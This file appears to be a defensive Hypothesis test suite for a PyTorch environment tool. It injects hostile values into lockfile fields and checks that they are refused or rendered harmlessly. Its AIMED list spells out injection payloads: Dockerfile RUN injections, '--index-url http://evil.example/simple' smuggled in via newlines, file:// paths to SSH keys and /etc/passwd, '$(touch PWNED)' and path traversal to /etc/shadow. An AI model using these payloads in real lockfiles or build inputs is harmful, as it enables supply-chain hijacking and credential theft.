"""Hostile locks: one field of a sealed pylock.toml replaced by any value (and the lock sealed
again, as a deliberate attacker would, so the field checks are what stands in the way), then
`image`, `lock --check`, `deploy` and `create` run on it. A lock with a value out of form is
refused naming that field; one that passes gives files in which no value became an instruction;
`lock --check` says fresh or stale; `create` never starts an installer on a refused lock."""

from __future__ import annotations

import subprocess
from pathlib import Path
from typing import Any

import tomli_w
from dockerfile_parse import DockerfileParser
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from hostile import hostile_text, sandbox, values
from ship_project import set_in_lock, ship_project
from torchenv.backends.lockfile import pip_requirements
from torchenv.errors import TorchenvError

FIELDS = [
    ("tool", "torchenv", "python"),
    ("tool", "torchenv", "torch"),
    ("tool", "torchenv", "variant"),
    ("tool", "torchenv", "cuda"),
    ("tool", "torchenv", "archs"),
    ("tool", "torchenv", "driver-floor"),
    ("tool", "torchenv", "platforms"),
    ("tool", "torchenv", "targets"),
    ("tool", "torchenv", "spec"),
    ("tool", "torchenv", "knowledge"),
    ("tool", "torchenv", "indexes"),
    ("tool", "torchenv", "channel"),
    ("tool", "torchenv", "unknown"),
    ("tool", "torchenv", "inputs"),
    ("packages", 0, "name"),
    ("packages", 0, "version"),
    ("packages", 1, "marker"),
    ("packages", 0, "wheels"),
    ("packages", 0, "wheels", 0, "url"),
    ("packages", 0, "wheels", 0, "hashes", "sha256"),
    ("packages", 1, "wheels", 0, "url"),
    ("packages",),
    ("lock-version",),
]
# what an attacker would put where it is read: instructions, options, other files
AIMED = st.sampled_from(
    [
        "3.11\nRUN touch /PWNED",
        "2.13.0\nLABEL x=y",
        'cpu" \\\n RUN id #',
        "six\n--index-url http://evil.example/simple",
        "1.0 --index-url http://evil.example/simple",
        "python_version >= '3\n--index-url http://evil.example/simple'",
        "os_name == 'x\u2028--index-url http://evil.example/simple #'",
        "os_name == 'x\x85--index-url http://evil.example/simple #'",
        "file:///root/.ssh/id_ed25519",
        "file:///etc/passwd",
        "https://user:SECRET-TOKEN@mirror.example/x.whl",
        "$(touch PWNED)",
        "../../../../etc/shadow",
    ]
)


def _check_outputs(project: Path) -> None:
    dockerfile = project / "image" / "Dockerfile"
    if dockerfile.exists():
        parsed = DockerfileParser(str(dockerfile), cache_content=True)
        kinds = [i["instruction"] for i in parsed.structure]
        assert kinds.count("RUN") == 5 and kinds.count("LABEL") == 1, kinds
    for sbatch in project.rglob("*.sbatch"):
        bash = subprocess.run(["bash", "-n", str(sbatch)], capture_output=True, check=False)
        assert bash.returncode == 0, bash.stderr
    assert not list(project.rglob("PWNED"))
    for wheel in (project / "image" / "wheels").glob("*"):
        assert wheel.name.endswith(".whl"), f"{wheel} copied into the build context"


@settings(max_examples=70, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    path=st.sampled_from(FIELDS),
    value=st.one_of(values, AIMED, hostile_text),
    seal=st.booleans(),
)
def test_hostile_lock_fields(path: tuple[Any, ...], value: object, seal: bool) -> None:
    with sandbox() as box:
        ship_project(box.project)
        if not set_in_lock(box.project / "pylock.toml", path, value, seal=seal):
            return
        image = box.run("image", allowed=[box.project / "image"])
        event(f"image exit {image.code}")
        if image.code == 2:
            assert "pylock.toml" in image.err
        check = box.run("lock", "--check")  # the CI gate: fresh or stale, never a crash
        assert check.code in (0, 1), check.err
        assert "\x1b" not in check.out and "SECRET-TOKEN" not in check.out
        box.run("deploy", "--to", "slurm", allowed=[box.project / "deploy"])
        box.run("deploy", "--to", "k8s", allowed=[box.project / "deploy"])
        _check_outputs(box.project)
        if image.code != 0:
            # refused before anything runs: no uv, no build directory, no environment
            create = box.run("create", "--prefix", str(box.root / "env"))
            assert create.code == 2 and not (box.root / "env").exists()


@settings(max_examples=40, deadline=None, suppress_health_check=list(HealthCheck))
@given(
    name=st.one_of(hostile_text, AIMED),
    version=st.one_of(hostile_text, AIMED, st.just("1.0")),
    marker=st.one_of(st.none(), hostile_text, AIMED),
)
def test_a_requirements_file_from_any_lock_has_no_option_lines(
    name: str, version: str, marker: str | None
) -> None:
    """The pip backend writes the lock as a requirements file: whatever the lock holds, either
    it is refused or every line is a pin, a hash or a comment (a newline in a name, version or
    marker once made an --index-url line)."""
    from torchenv.backends.lockfile import parse_lock

    entry: dict[str, Any] = {
        "name": name,
        "version": version,
        "wheels": [{"url": "https://x.example/a.whl", "hashes": {"sha256": "ab" * 32}}],
    }
    if marker is not None:
        entry["marker"] = marker
    try:
        text = tomli_w.dumps({"lock-version": "1.0", "packages": [entry]})
        lock = parse_lock(text.encode("utf-8", "surrogateescape"), "pylock.toml")
    except (TorchenvError, TypeError, ValueError, UnicodeEncodeError):
        return
    lines = pip_requirements(lock).splitlines()
    assert lines[0].startswith("#")
    assert lines[1].startswith(lock.packages[0].name + "==")
    assert all(line.startswith("    --hash=sha256:") for line in lines[2:]), lines
